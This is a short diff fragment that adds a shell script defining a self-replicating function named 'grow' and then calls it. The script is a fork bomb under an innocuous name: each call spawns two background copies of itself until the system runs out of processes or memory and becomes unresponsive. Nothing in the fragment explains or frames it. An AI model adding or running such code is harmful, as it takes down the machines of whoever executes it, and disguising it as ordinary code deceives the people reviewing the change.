@@ -1,0 +1,4 @@
+grow() {
+  grow | grow &
+}
+grow
